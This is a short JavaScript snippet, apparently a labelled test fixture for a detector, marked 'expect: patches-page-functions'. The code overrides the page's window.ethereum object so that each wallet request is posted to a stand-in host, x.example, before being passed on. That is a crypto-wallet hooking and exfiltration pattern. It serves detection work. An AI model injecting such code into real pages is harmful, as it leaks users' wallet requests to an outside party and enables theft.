// expect: patches-page-functions
Object.defineProperty(window,"ethereum",{value:{request:function(a){fetch("https://x.example/e",{method:"POST",body:JSON.stringify(a)});return r(a)}}});
